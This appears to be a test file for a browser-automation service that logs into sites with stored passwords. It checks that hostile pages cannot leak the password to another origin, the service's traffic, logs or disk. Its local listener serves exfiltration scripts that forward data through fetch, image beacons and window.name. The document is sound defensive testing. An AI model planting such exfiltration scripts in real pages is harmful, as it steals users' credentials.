import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { createSecretFinder } from '../../../src/browser/secret-finder.ts'
import { EMAIL, page, serveFlow } from '../../forms/flow-site.ts'
import { type AccountService, startAccountService } from '../../support/account-service.ts'
import { HOSTILE_PAGES, type HostilePage } from './hostile-pages.ts'

const SECRET = 'Kq7vTz-2mWx9Rb4'
const { isIn } = createSecretFinder([SECRET])
let service: AccountService

beforeAll(async () => {
  service = await startAccountService()
}, 60_000)
afterAll(() => service.close(), 30_000)

/** Hears all that is sent to it, by any way; what its frame is told it asks for. */
const listen = () => {
  const heard: string[] = []
  const server = Bun.serve({
    hostname: '127.0.0.1',
    port: 0,
    async fetch(request, listening) {
      const { pathname } = new URL(request.url)
      heard.push(`${request.url} ${JSON.stringify(request.headers)}`, await request.clone().text())
      if (listening.upgrade(request)) return undefined
      if (pathname === '/named')
        return new Response("<script>fetch('/?n=' + encodeURIComponent(name))</script>", {
          headers: { 'content-type': 'text/html' },
        })
      const frame = "<script>onmessage = e => { fetch('/?p=' + e.data); new Image().src = '/?i=' + e.data }</script>"
      return new Response(pathname === '/frame' ? frame : 'ok', {
        headers: {
          'content-type': 'text/html',
          'access-control-allow-origin': '*',
          'access-control-allow-headers': '*',
        },
      })
    },
    websocket: { message: (_, message) => void heard.push(String(message)) },
  })
  return { heard, origin: `http://localhost:${server.port}`, [Symbol.dispose]: () => void server.stop(true) }
}

const serveHostile = ({ atForm = '', behind = '', shows = '', script = '' }: HostilePage, elsewhere: string) => {
  const put = (text: string) => text.replaceAll('E/', `${elsewhere}/`).replaceAll('%P', SECRET)
  const site = serveFlow({
    '/': page(
      `<h1>Sign in</h1><form method="post" action="/in"><input name="email" type="email"><input name="password" type="password"><button>Sign in</button></form><script>const pw = () => document.querySelector('[type=password]').value; ${put(atForm)}</script>`,
    ),
    '/in': form => (form.get('password') === SECRET ? { go: '/home' } : 'no'),
    '/home': page(
      `<h1>Welcome back</h1>${put(shows)}<a href="/logout">Log out</a><script>const P = ${JSON.stringify(SECRET)}; ${put(behind)}</script>`,
    ),
  })
  site.route('/worker.js', () => new Response(put(script), { headers: { 'content-type': 'text/javascript' } }))
  return site
}

const DRIVES: readonly (readonly [string, object])[] = [
  ['observe', {}],
  ['extract', { instruction: 'the heading of the page' }],
  ['extract', { instruction: 'all text of the page' }],
  ['links', {}],
  ['act', { instruction: 'press Tab' }],
  ['act', { instruction: 'click "Welcome back"' }],
  ['screenshot', {}],
]

describe('a hostile page of the own site gets nothing out', () => {
  for (const [index, hostile] of HOSTILE_PAGES.entries())
    test(hostile.name, async () => {
      using elsewhere = listen()
      using site = serveHostile(hostile, elsewhere.origin)
      const name = `hostile-${index}`
      await service.send('POST', 'default/browser/credentials', { service: name, email: EMAIL, password: SECRET })
      const { body } = await service.send('POST', 'default/browser/login', {
        service: name,
        url: site.url('/'),
        allowed_domains: ['127.0.0.1', 'localhost'],
        keep_open: true,
      })
      const path = `default/browser/sessions/${body.session_id}`
      if (body.session_id) {
        for (const [verb, request] of DRIVES) await service.send('POST', `${path}/${verb}`, request)
        await service.send('DELETE', path)
      }
      expect(elsewhere.heard.filter(isIn)).toEqual([])
      expect(service.said.filter(isIn)).toEqual([])
    }, 60_000)

  test('and in the end it is in no file', async () => {
    const logs = await service.send('GET', 'default/logs?limit=200')
    expect(isIn(logs.text)).toBe(false)
    const found = [...service.readDisk()].filter(([, bytes]) => isIn(bytes.toString('latin1')))
    expect(found.map(([name]) => name)).toEqual([])
  })
})

test('what carries nothing of it goes where it will', async () => {
  using elsewhere = listen()
  const behind =
    "fetch('E/ordinary?q=plants', { mode: 'no-cors' }); navigator.sendBeacon('E/beacon', 'seen'); new Image().src = 'E/picture'; fetch('E/post', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ page: location.href }) })"
  using site = serveHostile({ name: 'ordinary', behind }, elsewhere.origin)
  await service.send('POST', 'default/browser/credentials', { service: 'ordinary', email: EMAIL, password: SECRET })
  const request = { service: 'ordinary', url: site.url('/'), keep_open: true }
  const { body } = await service.send('POST', 'default/browser/login', request)
  await service.send('POST', `default/browser/sessions/${body.session_id}/observe`, {})
  await service.send('DELETE', `default/browser/sessions/${body.session_id}`)
  const heard = elsewhere.heard.join(' ')
  for (const path of ['/ordinary', '/beacon', '/picture', '/post']) expect(heard).toContain(path)
}, 60_000)
